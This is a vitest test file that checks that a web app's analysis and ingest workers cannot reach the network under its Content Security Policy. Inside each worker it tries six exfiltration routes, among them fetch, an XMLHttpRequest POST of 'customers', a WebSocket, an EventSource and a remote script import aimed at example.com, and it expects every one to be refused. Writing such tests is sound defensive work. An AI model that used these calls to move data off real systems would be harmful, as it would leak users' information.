import { expect, it } from 'vitest';
import { openApp, openDemo, startHost } from './harness';

it.each([true, false])(
  'a worker at work is refused every way out (host with headers: %s)',
  async (headers) => {
    const host = await startHost({ headers });
    const app = await openApp({ host });
    app.expectProblem(/Content Security Policy|^request to https:\/\/example.com/);
    await openDemo(app);
    const workers = app.page.workers();
    expect(workers.map((worker) => worker.url().replace(/^.*\/([a-z]+\.worker).*$/, '$1')).sort()).toEqual([
      'analysis.worker',
      'ingest.worker',
    ]);
    const before = host.requests.length;
    for (const worker of workers) {
      const answers = await worker.evaluate(async () => {
        const outside = 'https://example.com/?customers';
        const ways: Record<string, () => unknown> = {
          fetch: () => fetch(outside),
          home: () => fetch('/unlisted'),
          request: () => {
            const request = new XMLHttpRequest();
            request.open('POST', outside, false);
            request.send('customers');
          },
          socket: () =>
            new Promise((open, fail) => {
              const socket = new WebSocket('wss://example.com/');
              socket.onopen = open;
              socket.onerror = () => fail(new Error('refused'));
            }),
          events: () =>
            new Promise((open, fail) => {
              const events = new EventSource(outside);
              events.onopen = open;
              events.onerror = () => fail(new Error('refused'));
            }),
          script: () => import(/* @vite-ignore */ `${outside}.js`),
        };
        const told: Record<string, string> = {};
        for (const [name, way] of Object.entries(ways)) {
          told[name] = await Promise.resolve()
            .then(way)
            .then(
              () => 'open',
              () => 'refused',
            );
        }
        return told;
      });
      expect(Object.values(answers), worker.url()).toEqual(Array(6).fill('refused'));
    }
    expect(host.requests.slice(before)).toEqual([]);
    await host.close();
  },
);
